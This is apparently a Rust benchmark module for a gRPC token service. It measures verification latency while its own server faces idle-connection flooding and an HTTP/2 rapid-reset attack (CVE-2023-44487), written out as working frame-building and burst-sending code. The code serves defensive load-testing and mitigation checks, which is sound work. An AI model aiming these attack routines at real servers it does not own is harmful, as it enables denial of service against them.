//! `tokend bench --mode flood`: Verify's latency from a well-behaved client
//! while the front door is attacked, against the same client without.
//!
//! The attack, on a runtime of its own (as another process would be):
//! `--flood-idle` connections that never send a byte, each reopened as soon
//! as the server closes it (at `--handshake-timeout`), and one HTTP/2
//! rapid-reset attacker (CVE-2023-44487) that writes bursts of requests,
//! each cancelled by RST_STREAM right after its HEADERS, and reconnects
//! whenever the server answers GOAWAY. Blocks with and without the attack
//! alternate, so drift on a shared machine hits both alike. The attacker
//! connects from 127.0.0.2, a peer of its own as it would be on a network
//! (the measured client and the idle connections from 127.0.0.1).
//!
//! The frame writers are public so the integration tests attack the server
//! the same way.

use std::{
    net::SocketAddr,
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    time::{Duration, Instant},
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};
use tonic::transport::Channel;

use super::{BoxError, Call, Sample, block, us};
use crate::pb::verify_service_client::VerifyServiceClient;

/// The HTTP/2 client connection preface.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// HTTP/2 frame types this module writes or looks for.
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
/// The GOAWAY frame type.
pub const GOAWAY: u8 = 0x7;
/// GOAWAY's error code for a peer that is "generating excessive load".
pub const ENHANCE_YOUR_CALM: u32 = 0xb;
const END_HEADERS: u8 = 0x4;
const CANCEL: u32 = 0x8;

/// One HTTP/2 frame: 9-byte header, then the payload.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut f = Vec::with_capacity(9 + payload.len());
    f.extend_from_slice(&len.to_be_bytes()[1..]);
    f.extend_from_slice(&[kind, flags]);
    f.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// The preface and an empty SETTINGS frame: what a client sends first.
pub fn client_start() -> Vec<u8> {
    let mut bytes = PREFACE.to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    bytes
}

/// A Verify request's header block, HPACK-encoded without Huffman coding or
/// the dynamic table, so every request is the same bytes.
fn verify_headers() -> Vec<u8> {
    fn literal(block: &mut Vec<u8>, value: &[u8]) {
        block.push(value.len() as u8);
        block.extend_from_slice(value);
    }
    let mut block = vec![0x83, 0x86]; // :method POST, :scheme http (static table)
    block.push(0x04); // :path, literal value, not indexed
    literal(&mut block, b"/tokend.v1.VerifyService/Verify");
    block.push(0x01); // :authority
    literal(&mut block, b"localhost");
    block.extend_from_slice(&[0x0f, 0x10]); // content-type (static index 31)
    literal(&mut block, b"application/grpc");
    block.push(0x00); // te: a new name
    literal(&mut block, b"te");
    literal(&mut block, b"trailers");
    block
}

/// `n` requests on streams `first`, `first + 2`, …, each HEADERS followed at
/// once by RST_STREAM(CANCEL): the rapid-reset pattern.
pub fn rapid_reset_burst(first: u32, n: u32) -> Vec<u8> {
    let headers = verify_headers();
    let mut bytes = Vec::new();
    for stream in (0..n).map(|i| first + 2 * i) {
        bytes.extend(frame(HEADERS, END_HEADERS, stream, &headers));
        bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
    }
    bytes
}

/// Reads frames until a GOAWAY (its error code), the end of the connection
/// (`None`) or `limit`.
pub async fn read_until_goaway(stream: &mut TcpStream, limit: Duration) -> Option<u32> {
    let deadline = tokio::time::Instant::now() + limit;
    let mut header = [0u8; 9];
    loop {
        tokio::time::timeout_at(deadline, stream.read_exact(&mut header)).await.ok()?.ok()?;
        let len = u32::from_be_bytes([0, header[0], header[1], header[2]]) as usize;
        let mut payload = vec![0u8; len];
        tokio::time::timeout_at(deadline, stream.read_exact(&mut payload)).await.ok()?.ok()?;
        if header[3] == GOAWAY && len >= 8 {
            return Some(u32::from_be_bytes([payload[4], payload[5], payload[6], payload[7]]));
        }
    }
}

/// What the attackers did during the attacked blocks.
#[derive(Debug, Default)]
struct Tally {
    /// Connections the idle holders opened (the first set and reopenings).
    idle_opened: AtomicU64,
    /// Requests sent and reset at once.
    resets: AtomicU64,
    /// Connections the rapid-reset attacker opened.
    attack_connections: AtomicU64,
    /// GOAWAY ENHANCE_YOUR_CALM answers it received (the answer may be
    /// lost when the server resets a connection still being written).
    calm_goaways: AtomicU64,
    /// Connections closed before any answer (during a cooldown).
    closed_at_once: AtomicU64,
    /// Connection attempts the server never answered (SYNs dropped during a
    /// cooldown).
    unanswered_connects: AtomicU64,
}

/// A running attack, stopped by [`Attack::stop`].
struct Attack {
    stop: Arc<AtomicBool>,
    tasks: Vec<tokio::task::JoinHandle<()>>,
}

impl Attack {
    /// Starts the attack on `runtime` and returns once every idle
    /// connection is open (or after 10 s).
    async fn start(runtime: &tokio::runtime::Handle, addr: SocketAddr, idle: usize, tally: &Arc<Tally>) -> Attack {
        let stop = Arc::new(AtomicBool::new(false));
        let opened = Arc::new(AtomicU64::new(0));
        let mut tasks: Vec<_> =
            (0..idle).map(|_| runtime.spawn(hold_idle(addr, opened.clone(), tally.clone()))).collect();
        tasks.push(runtime.spawn(rapid_reset(addr, stop.clone(), tally.clone())));
        let deadline = Instant::now() + Duration::from_secs(10);
        while (opened.load(Ordering::Relaxed) as usize) < idle && Instant::now() < deadline {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        // Connected is not yet accepted: give the server time to take the
        // backlog, so the block measures idle connections, not their arrival.
        tokio::time::sleep(Duration::from_millis(300)).await;
        Attack { stop, tasks }
    }

    async fn stop(self) {
        self.stop.store(true, Ordering::Relaxed);
        for task in &self.tasks {
            task.abort();
        }
        for task in self.tasks {
            let _ = task.await;
        }
    }
}

/// Keeps one connection open without a byte sent, reopening it whenever
/// the server closes it; runs until aborted, and costs nothing while it waits.
async fn hold_idle(addr: SocketAddr, opened: Arc<AtomicU64>, tally: Arc<Tally>) {
    loop {
        let Ok(mut conn) = TcpStream::connect(addr).await else {
            tokio::time::sleep(Duration::from_millis(50)).await;
            continue;
        };
        opened.fetch_add(1, Ordering::Relaxed);
        tally.idle_opened.fetch_add(1, Ordering::Relaxed);
        let mut buf = [0u8; 64];
        // Until the server closes it (the server never speaks first).
        while let Ok(n) = conn.read(&mut buf).await
            && n > 0
        {}
    }
}

/// A connection from `from` (another loopback address, so the attacker is a
/// peer of its own, as it would be on a network).
pub async fn connect_from(from: std::net::IpAddr, addr: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = if from.is_ipv4() { tokio::net::TcpSocket::new_v4()? } else { tokio::net::TcpSocket::new_v6()? };
    socket.bind(SocketAddr::new(from, 0))?;
    socket.connect(addr).await
}

/// Where the rapid-reset attacker connects from.
pub const ATTACKER: std::net::IpAddr = std::net::IpAddr::V4(std::net::Ipv4Addr::new(127, 0, 0, 2));

/// Rapid reset: cancelled requests in bursts of 100, up to 1,000 per
/// connection or until the server stops reading, then the answer (GOAWAY, or
/// nothing during a cooldown), then a new connection, from [`ATTACKER`].
async fn rapid_reset(addr: SocketAddr, stop: Arc<AtomicBool>, tally: Arc<Tally>) {
    const BURST: u32 = 100;
    let start = client_start();
    let bursts: Vec<Vec<u8>> = (0..10).map(|i| rapid_reset_burst(1 + 2 * BURST * i, BURST)).collect();
    while !stop.load(Ordering::Relaxed) {
        // Bounded, as any attacker's would be: during a cooldown the SYNs go
        // unanswered.
        let Ok(Ok(mut conn)) = tokio::time::timeout(Duration::from_millis(200), connect_from(ATTACKER, addr)).await
        else {
            tally.unanswered_connects.fetch_add(1, Ordering::Relaxed);
            continue;
        };
        tally.attack_connections.fetch_add(1, Ordering::Relaxed);
        if conn.write_all(&start).await.is_err() {
            continue;
        }
        for burst in &bursts {
            if conn.write_all(burst).await.is_err() {
                break;
            }
            tally.resets.fetch_add(u64::from(BURST), Ordering::Relaxed);
        }
        match read_until_goaway(&mut conn, Duration::from_secs(1)).await {
            Some(ENHANCE_YOUR_CALM) => tally.calm_goaways.fetch_add(1, Ordering::Relaxed),
            _ => tally.closed_at_once.fetch_add(1, Ordering::Relaxed),
        };
    }
}

/// Verify sequentially, alternating blocks without and with the attack.
pub(crate) async fn flood(
    channel: &Channel,
    tokens: &Arc<Vec<String>>,
    addr: SocketAddr,
    seconds: f64,
    idle: usize,
) -> Result<(), BoxError> {
    const FLOOD_BLOCK: Duration = Duration::from_secs(1);
    let attack_rt = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build()?;
    let verify = Call::Verify(VerifyServiceClient::new(channel.clone()), tokens.clone());
    let rounds = ((seconds / FLOOD_BLOCK.as_secs_f64()).ceil() as usize).max(2);
    let tally = Arc::new(Tally::default());
    let (mut calm, mut attacked) = (Sample::default(), Sample::default());
    block(&verify, 1, FLOOD_BLOCK / 4).await?; // warm-up
    for _ in 0..rounds {
        calm.add(block(&verify, 1, FLOOD_BLOCK).await?);
        let attack = Attack::start(attack_rt.handle(), addr, idle, &tally).await;
        attacked.add(block(&verify, 1, FLOOD_BLOCK).await?);
        attack.stop().await;
    }
    attack_rt.shutdown_background();
    println!(
        "\n== Verify under attack: {idle} idle connections + one rapid-reset attacker, \
         {rounds} alternating {FLOOD_BLOCK:?} blocks"
    );
    println!("{:<28}{:>14}{:>14}{:>9}", "sequential", "attacked", "calm", "ratio");
    for p in [50.0, 99.0, 99.9] {
        let (a, b) = (attacked.percentile(p), calm.percentile(p));
        let name = format!("p{p}");
        println!("{name:<28}{:>14}{:>14}{:>9.3}", us(a), us(b), a.as_secs_f64() / b.as_secs_f64().max(1e-12));
    }
    let (a, b) = (attacked.throughput(), calm.throughput());
    println!("{:<28}{:>12.0}/s{:>12.0}/s{:>9.3}", "throughput", a, b, a / b);
    println!(
        "attack: {} idle connections opened; {} requests reset on {} connections: {} answered GOAWAY \
         ENHANCE_YOUR_CALM, {} closed without an answer; {} connection attempts unanswered (cooldown)",
        tally.idle_opened.load(Ordering::Relaxed),
        tally.resets.load(Ordering::Relaxed),
        tally.attack_connections.load(Ordering::Relaxed),
        tally.calm_goaways.load(Ordering::Relaxed),
        tally.closed_at_once.load(Ordering::Relaxed),
        tally.unanswered_connects.load(Ordering::Relaxed),
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_carry_length_type_flags_and_stream() {
        let f = frame(RST_STREAM, 0, 3, &CANCEL.to_be_bytes());
        assert_eq!(f, [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
        let burst = rapid_reset_burst(1, 2);
        let headers = frame(HEADERS, END_HEADERS, 1, &verify_headers());
        assert_eq!(&burst[..headers.len()], &headers[..]);
        assert_eq!(burst.len(), 2 * (headers.len() + 13));
        assert_eq!(burst[burst.len() - 5], 3, "the second request is on stream 3");
    }
}
